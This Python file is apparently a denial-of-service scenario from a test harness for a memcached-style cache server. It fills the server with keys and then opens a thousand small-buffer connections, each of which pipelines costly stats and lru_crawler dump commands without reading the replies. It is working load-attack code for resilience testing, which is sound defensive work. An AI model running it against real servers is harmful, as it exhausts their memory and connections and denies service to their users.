# SPDX-License-Identifier: BSD-3-Clause
import time

import attack

ASKS = (b"stats conns", b"stats detail dump", b"stats cachedump 1 0", b"lru_crawler metadump all",
        b"lru_crawler mgdump all", b"stats")
PREFIXES = 10000


class Attack(attack.Attack):
    """A thousand connections that ask for long answers, pipelined, and read nothing."""

    honest_clients = 0
    settles = 3.0

    def prepare(self, server):
        with server.client() as c:
            c.send(b"stats detail on\r\n")
            assert c.line() == b"OK"
            for at in range(0, PREFIXES, 1000):
                c.send(b"".join(b"set prefix%0100d:%d 0 0 100 noreply\r\n%s\r\n" % (i, i, b"v" * 100)
                                for i in range(at, at + 1000)))
            assert c.get(attack.KEY) is not None

    def attack(self, server, number):
        held = []
        for i in range(1000):
            c = server.client(rcvbuf=4096)
            c.send((ASKS[i % len(ASKS)] + b"\r\n") * 10)
            held.append(c)
        time.sleep(3600)
